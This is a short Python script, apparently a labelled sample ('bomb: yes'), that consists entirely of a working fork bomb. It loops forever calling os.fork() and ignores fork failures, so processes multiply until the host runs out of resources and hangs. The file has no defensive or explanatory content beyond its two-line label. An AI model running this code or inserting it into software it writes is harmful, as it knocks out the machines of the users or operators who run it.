"""tries: start processes without end

bomb: yes
"""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
